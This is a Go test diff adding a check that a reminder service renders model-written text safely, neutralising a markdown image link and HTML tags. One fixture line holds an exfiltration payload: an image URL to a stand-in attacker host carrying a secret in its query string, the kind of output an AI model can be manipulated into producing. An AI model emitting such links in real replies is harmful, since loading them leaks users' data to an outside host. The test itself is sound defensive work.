@@ -86,6 +86,17 @@ func TestAReminderComesWhenItIsDue(t *testing.T) {
 	})
 }
 
+// TestAReminderLoadsNothing: a model may have written what it says.
+func TestAReminderLoadsNothing(t *testing.T) {
+	t.Parallel()
+	synctest.Test(t, func(t *testing.T) {
+		b := reminded(t)
+		b.remind(`{"what":"![tea](https://evil.example/?q=secret) <b>now</b>","in_minutes":10}`, nil)
+		b.pass(11 * time.Minute)
+		b.expect("Reminder: tea (evil.example) <\u200bb>now<\u200b/b>")
+	})
+}
+
 func TestAReminderSurvivesItsProcesses(t *testing.T) {
 	t.Parallel()
 	synctest.Test(t, func(t *testing.T) {
